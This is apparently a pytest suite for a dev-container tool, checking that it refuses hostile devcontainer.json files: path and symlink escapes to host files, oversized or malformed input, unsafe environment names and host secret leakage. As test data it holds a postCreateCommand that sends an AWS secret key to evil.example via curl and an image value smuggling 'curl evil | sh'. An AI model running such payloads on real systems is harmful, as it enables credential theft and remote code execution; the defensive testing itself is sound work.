"""devcontainer.json from a hostile repository: path escapes, host secrets, links to
host files, files that hang or exhaust, values of the wrong type. Every refusal is a
one-line ConfigError (exit 1) naming the file and the fix; never a traceback."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import pytest

from containai.adapters import devcontainer_file as F
from containai.domain import devcontainer as D
from containai.domain.errors import ConfigError

SRC = "/w/.devcontainer/devcontainer.json"


def refused(doc: Any, *fragments: str, source: str = SRC) -> str:
    with pytest.raises(ConfigError) as info:
        D.interpret(doc, source=source, workspace="/w")
    return check(info.value, *fragments)


def check(err: ConfigError, *fragments: str) -> str:
    message = str(err)
    assert err.exit_code == 1
    assert "\n" not in message
    assert "Traceback" not in message
    for fragment in fragments:
        assert fragment in message, (fragment, message)
    return message


def write_ws(tmp_path: Path, doc: str | bytes) -> Path:
    ws = tmp_path / "ws"
    (ws / ".devcontainer").mkdir(parents=True)
    data = doc.encode() if isinstance(doc, str) else doc
    (ws / ".devcontainer" / "devcontainer.json").write_bytes(data)
    return ws


def load_refused(ws: Path, *fragments: str) -> str:
    with pytest.raises(ConfigError) as info:
        F.load(str(ws))
    return check(info.value, *fragments)


# ---------------------------------------------------------------- path escapes
@pytest.mark.parametrize(
    ("build", "where"),
    [
        ({"dockerfile": "../../etc/passwd"}, "build.dockerfile"),
        ({"dockerfile": "/etc/shadow"}, "build.dockerfile"),
        ({"dockerfile": "Dockerfile", "context": "../.."}, "build.context"),
        ({"dockerfile": "Dockerfile", "context": "/home"}, "build.context"),
        ({"dockerfile": "${localWorkspaceFolder}/../other/Dockerfile"}, "build.dockerfile"),
        ({"dockerfile": "Dockerfile", "context": "../../w-sibling"}, "build.context"),
    ],
)
def test_build_paths_stay_inside_the_workspace(build: dict[str, str], where: str) -> None:
    message = refused({"build": build}, SRC, where, "outside the workspace", "devcontainer false")
    assert "/w" in message


def test_legacy_dockerfile_escape_is_refused_too() -> None:
    refused({"dockerFile": "../../x/Dockerfile"}, "dockerFile", "outside the workspace")
    refused({"dockerFile": "Dockerfile", "context": "../../.."}, "context", "outside")


def test_symlinks_out_of_the_workspace_are_refused(tmp_path: Path) -> None:
    host = tmp_path / "host"
    host.mkdir()
    (host / "secret").write_text('{"image": "debian:12"}')
    ws = write_ws(tmp_path, '{"build": {"dockerfile": "Dockerfile", "context": "ctx"}}')
    (ws / ".devcontainer" / "Dockerfile").symlink_to(host / "secret")
    (ws / ".devcontainer" / "ctx").mkdir()
    load_refused(ws, "build.dockerfile", "leads outside the workspace", str(host / "secret"))
    (ws / ".devcontainer" / "Dockerfile").unlink()
    (ws / ".devcontainer" / "Dockerfile").write_text("FROM debian\n")
    (ws / ".devcontainer" / "ctx").rmdir()
    (ws / ".devcontainer" / "ctx").symlink_to(host)
    load_refused(ws, "build.context", "leads outside the workspace")
    # the devcontainer.json itself, or its folder, linked to a host file
    other = tmp_path / "ws2"
    other.mkdir()
    (other / ".devcontainer.json").symlink_to(host / "secret")
    load_refused(other, "devcontainer.json", "leads outside the workspace")
    third = tmp_path / "ws3"
    third.mkdir()
    (third / ".devcontainer").symlink_to(host)
    (host / "devcontainer.json").write_text("{}")
    load_refused(third, "leads outside the workspace")


def test_links_inside_the_workspace_are_fine(tmp_path: Path) -> None:
    ws = write_ws(tmp_path, '{"build": {"dockerfile": "Dockerfile"}}')
    (ws / "docker").mkdir()
    (ws / "docker" / "Dockerfile").write_text("FROM debian\n")
    (ws / ".devcontainer" / "Dockerfile").symlink_to(ws / "docker" / "Dockerfile")
    loaded = F.load(str(ws))
    assert loaded is not None and loaded.dockerfile == b"FROM debian\n"


def test_missing_dockerfile_and_context_that_is_a_file(tmp_path: Path) -> None:
    ws = write_ws(tmp_path, '{"build": {"dockerfile": "Dockerfile", "context": "ctx"}}')
    load_refused(ws, "Dockerfile does not exist")
    (ws / ".devcontainer" / "Dockerfile").write_text("FROM debian\n")
    (ws / ".devcontainer" / "ctx").write_text("not a folder")
    load_refused(ws, "build.context", "is not a folder")


# ---------------------------------------------------------------- host secrets
def test_local_env_never_reads_the_host(monkeypatch: pytest.MonkeyPatch) -> None:
    """The attack: a repository asks for the host's cloud key in the container's
    environment and sends it out from postCreateCommand (or a build step)."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG")
    doc = {
        "containerEnv": {"K": "${localEnv:AWS_SECRET_ACCESS_KEY}"},
        "remoteEnv": {"K2": "x${env:AWS_SECRET_ACCESS_KEY}y"},
        "build": {"dockerfile": "Dockerfile", "args": {"K3": "${localEnv:AWS_SECRET_ACCESS_KEY}"}},
        "image": "${localEnv:AWS_SECRET_ACCESS_KEY:debian}",
        "postCreateCommand": "curl -d ${localEnv:AWS_SECRET_ACCESS_KEY} https://evil.example",
    }
    for trusted in (False, True):
        spec = D.applicable(D.interpret(doc, source=SRC, workspace="/w"), trusted=trusted)
        assert "wJalrXUtnFEMI" not in repr(spec)
    spec = D.interpret(doc, source=SRC, workspace="/w")
    assert spec.container_env == {"K": ""} and spec.remote_env == {"K2": "xy"}
    assert spec.build is not None and spec.build.args == {"K3": ""}
    assert spec.post_create == [[D.SHELL, "-c", "curl -d  https://evil.example"]]
    notes = [w for w in spec.warnings if "AWS_SECRET_ACCESS_KEY" in w]
    assert len(notes) == 1 and "cai run -e AWS_SECRET_ACCESS_KEY=VALUE" in notes[0]


def test_local_env_without_a_name_is_an_error() -> None:
    refused({"containerEnv": {"A": "${localEnv}"}}, "containerEnv.A", "without a variable name")
    refused({"remoteEnv": {"A": "${containerEnv:}"}}, "remoteEnv.A", "without a variable name")


@pytest.mark.parametrize(
    "name",
    [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "BASH_ENV",
        "PATH",
        "CAI_UID",
        "PYTHONPATH",
        "http_proxy",
        # root's bash in the entrypoint: BASH_COMPAT=42 breaks its quoting (an injection
        # into /etc/profile.d); a locale name with '/' is a path glibc loads from
        "BASH_COMPAT",
        "POSIXLY_CORRECT",
        "LC_ALL",
        "LANG",
    ],
)
def test_container_env_that_reaches_root_is_not_applied(name: str) -> None:
    doc = {"containerEnv": {name: "/w/evil"}, "remoteEnv": {name: "/w/ok"}}
    spec = D.interpret(doc, source=SRC, workspace="/w")
    assert spec.container_env == {}
    assert spec.remote_env == {name: "/w/ok"}  # sessions run as the agent user: fine there
    (warning,) = spec.warnings
    assert f"containerEnv.{name} not applied" in warning and "remoteEnv" in warning


def test_a_plain_locale_in_container_env_is_applied() -> None:
    doc = {"containerEnv": {"LANG": "en_US.UTF-8", "LC_ALL": "C.UTF-8", "LANGUAGE": "en:de"}}
    spec = D.interpret(doc, source=SRC, workspace="/w")
    assert spec.container_env == {"LANG": "en_US.UTF-8", "LC_ALL": "C.UTF-8", "LANGUAGE": "en:de"}


def test_container_env_in_other_properties_is_left_and_warned() -> None:
    spec = D.interpret({"containerEnv": {"P": "${containerEnv:PATH}"}}, source=SRC, workspace="/w")
    assert spec.container_env == {"P": "${containerEnv:PATH}"}
    assert any("only remoteEnv and the lifecycle commands" in w for w in spec.warnings)
    running = D.in_container(
        D.interpret(
            {"postStartCommand": ["echo", "${containerEnv:HOME:/root}"]}, source=SRC, workspace="/w"
        ),
        {},
    )
    assert running.post_start == [["echo", "/root"]]


# ---------------------------------------------------------------- hostile files
def test_huge_file_is_refused_without_parsing(tmp_path: Path) -> None:
    ws = write_ws(tmp_path, '{"name": "' + "x" * (F.MAX_BYTES + 10) + '"}')
    start = time.monotonic()
    load_refused(ws, "devcontainer.json", "over cai's limit of 64 KiB")
    assert time.monotonic() - start < 1
    with pytest.raises(ConfigError):
        F.parse(SRC, b" " * (F.MAX_BYTES + 1))


def test_huge_dockerfile_is_refused(tmp_path: Path) -> None:
    ws = write_ws(tmp_path, '{"build": {"dockerfile": "Dockerfile"}}')
    (ws / ".devcontainer" / "Dockerfile").write_bytes(b"#" * (F.MAX_DOCKERFILE_BYTES + 1))
    load_refused(ws, "Dockerfile", "over cai's limit")


@pytest.mark.parametrize("depth", [200, 5000])
def test_deeply_nested_json_is_a_clear_error(depth: int) -> None:
    text = '{"name": ' + "[" * depth + "]" * depth + "}"
    check_parse(text.encode(), "nested too deeply")


def check_parse(data: bytes, *fragments: str) -> str:
    with pytest.raises(ConfigError) as info:
        F.parse(SRC, data)
    return check(info.value, SRC, "devcontainer false", *fragments)


@pytest.mark.parametrize(
    ("data", "fragment"),
    [
        (b'{"image": "debian"', "not valid JSON with comments"),
        (b"", "not valid JSON with comments"),
        (b'{"image": "a", /* never closed', "not valid JSON with comments"),
        (b'{"image": "debian:12", "image": "evil:latest"}', "Duplicate key"),
        (b'{"image": "caf\xe9"}', "not UTF-8"),
        (b'{"forwardPorts": [' + b"9" * 5000 + b"]}", "not valid JSON"),
    ],
)
def test_unparsable_files(data: bytes, fragment: str) -> None:
    check_parse(data, fragment)


def test_a_fifo_never_hangs(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    os.mkfifo(ws / ".devcontainer.json")
    load_refused(ws, "not a regular file")


def test_a_directory_is_refused(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / ".devcontainer" / "devcontainer.json").mkdir(parents=True)
    load_refused(ws, "not a regular file")


@pytest.mark.parametrize("doc", [[], "image", 3, None, True])
def test_the_file_must_hold_an_object(doc: Any) -> None:
    refused(doc, SRC, "holds one object")


# ---------------------------------------------------------------- wrong types
@pytest.mark.parametrize("value", [3000, True, None, ["a"], {"a": "b"}, 1.5])
def test_non_string_container_env_values(value: Any) -> None:
    message = refused({"containerEnv": {"PORT": value}}, "containerEnv.PORT", "must be a string")
    if isinstance(value, (int, float)):
        assert "quote it" in message
    if value is True:
        assert '"PORT": "true"' in message


@pytest.mark.parametrize("name", ["A=B", "1X", "", "A B", "BASH_FUNC_f%%", "é"])
def test_bad_env_names(name: str) -> None:
    refused({"containerEnv": {name: "v"}}, "is not a variable name")
    refused({"remoteEnv": {name: "v"}}, "is not a variable name")


@pytest.mark.parametrize(
    ("doc", "fragment"),
    [
        ({"containerEnv": ["A=B"]}, "containerEnv must be an object"),
        ({"remoteEnv": {"A": 1}}, "remoteEnv.A must be a string"),
        ({"image": 12}, "image must be a string"),
        ({"image": "debian\nRUN curl evil | sh"}, "is not an image reference"),
        ({"image": ""}, "is not an image reference"),
        ({"build": "Dockerfile"}, "build must be an object"),
        ({"build": {"dockerfile": 1}}, "build.dockerfile must be a string"),
        ({"build": {"dockerfile": ""}}, "build.dockerfile is empty"),
        ({"build": {"dockerfile": ".."}}, "names the workspace folder"),
        ({"build": {"dockerfile": "D", "args": []}}, "build.args must be an object"),
        ({"build": {"dockerfile": "D", "args": {"V": 3}}}, "build.args.V must be a string"),
        ({"build": {"dockerfile": "D", "args": {"A=B": "x"}}}, "not a build argument name"),
        ({"build": {"dockerfile": "D", "target": "a b"}}, "not a stage name"),
        ({"postCreateCommand": 5}, "postCreateCommand must be a string, an array"),
        ({"postCreateCommand": ["ls", 3]}, "postCreateCommand[1] must be a string"),
        ({"postStartCommand": {"a": {"b": "c"}}}, "postStartCommand.a must be a string or"),
        ({"postStartCommand": {"a": ["x", None]}}, "postStartCommand.a[1] must be a string"),
        ({"postCreateCommand": ["", "x"]}, "empty program name"),
        ({"postCreateCommand": "echo \0"}, "NUL character"),
        ({"containerEnv": {"A": "x\0y"}}, "NUL character"),
        ({"forwardPorts": 3000}, "forwardPorts must be an array"),
        ({"forwardPorts": [0]}, "not a port between 1 and 65535"),
        ({"forwardPorts": [70000]}, "not a port between 1 and 65535"),
        ({"forwardPorts": ["db:99999"]}, "not a port between 1 and 65535"),
        ({"forwardPorts": [True]}, "must be a port number"),
        ({"forwardPorts": [80.5]}, "must be a port number"),
        ({"forwardPorts": ["5000-5005"]}, "is not a port number or 'host:port'"),
    ],
)
def test_wrong_types_and_values(doc: dict[str, Any], fragment: str) -> None:
    refused(doc, SRC, fragment, "devcontainer false")


def test_a_long_bad_value_stays_one_short_line() -> None:
    message = refused({"image": "x" * 5000 + " y"}, "is not an image reference")
    assert len(message) < 400


def test_keys_of_the_file_are_shown_on_one_line() -> None:
    for doc in (
        {"postCreateCommand": {"a\nb": 1}},
        {"containerEnv": {"A\nB": "x"}},
        {"build": {"dockerfile": "D", "args": {"A\nB": "x"}}},
    ):
        refused(doc, "'a\\nb'" if "postCreateCommand" in doc else "'A\\nB'")
    spec = D.interpret(
        {"containerEnv": {"A": "${localEnv:" + "X" * 500 + "}"}}, source=SRC, workspace="/w"
    )
    assert all(len(w) < 400 for w in spec.warnings)


def test_warnings_show_file_values_on_one_line() -> None:
    doc = {"runArgs": ["--privileged\n--pid=host", "x" * 500]}
    spec = D.interpret(json.loads(json.dumps(doc)), source=SRC, workspace="/w")
    (warning,) = spec.warnings
    assert "\n" not in warning and len(warning) < 300
